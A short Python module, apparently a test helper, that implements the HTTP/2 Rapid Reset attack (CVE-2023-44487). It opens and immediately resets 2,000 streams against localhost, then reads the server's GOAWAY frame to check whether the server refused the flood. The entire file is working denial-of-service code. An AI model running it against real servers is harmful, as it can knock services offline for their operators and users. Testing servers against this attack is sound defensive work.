"""The attack of CVE-2023-44487: a client of HTTP/2 that resets its streams as fast as it opens them."""

from __future__ import annotations

import socket
import ssl
import struct

RESET_STREAMS = 2_000


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """Returns a frame of HTTP/2 (RFC 9113, section 4.1)."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def reset_streams(attacker: ssl.SSLSocket) -> int:
    """Opens and resets RESET_STREAMS streams on a new connection, each with a request for `/reset`. Returns how many of
    the streams the server accepted before it refused more.
    """
    # The request headers in HPACK (RFC 7541): two indexes of its static table for the method GET and the scheme https,
    # then the path and the host as literal values.
    headers = b"\x82\x87" + b"\x04\x06/reset" + b"\x41\x09localhost"
    cancel = struct.pack(">I", 8)
    streams = range(1, 2 * RESET_STREAMS + 1, 2)
    attacker.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
    attacker.sendall(b"".join(frame(1, 5, each, headers) + frame(3, 0, each, cancel) for each in streams))
    return (_last_stream(attacker) + 1) // 2


def _last_stream(attacker: socket.socket) -> int:
    """Returns the last stream that the server accepted, from its GOAWAY frame (RFC 9113, section 6.8)."""
    received = b""
    while part := attacker.recv(1 << 16):
        received += part
        rest = received
        while len(rest) >= 9 and len(rest) >= 9 + int.from_bytes(rest[:3], "big"):
            length, kind = int.from_bytes(rest[:3], "big"), rest[3]
            if kind == 7:
                return int.from_bytes(rest[9:13], "big")
            rest = rest[9 + length :]
    raise AssertionError("the connection ended without a GOAWAY frame")
